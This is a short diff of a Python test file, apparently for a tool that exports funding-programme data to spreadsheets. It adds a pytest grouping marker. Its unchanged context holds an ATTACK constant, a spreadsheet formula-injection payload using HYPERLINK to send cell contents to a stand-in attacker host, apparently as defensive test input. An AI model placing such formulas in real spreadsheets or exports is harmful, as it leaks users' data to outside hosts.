@@ -16,6 +16,8 @@ from tests.cli.running import Reserve
 from tests.reserve.exchange.archives import cells, part, sheet_parts
 from tests.support.office import Office
 
+pytestmark = pytest.mark.xdist_group("funding")
+
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"熟料线节能改造")'
 OTHER = "2401-330522-07-02-654321"
 OPENING = ("--programme", "zhejiang_cement_special_fund", "--budget", "300", "--basis", "演示〔2024〕9号")
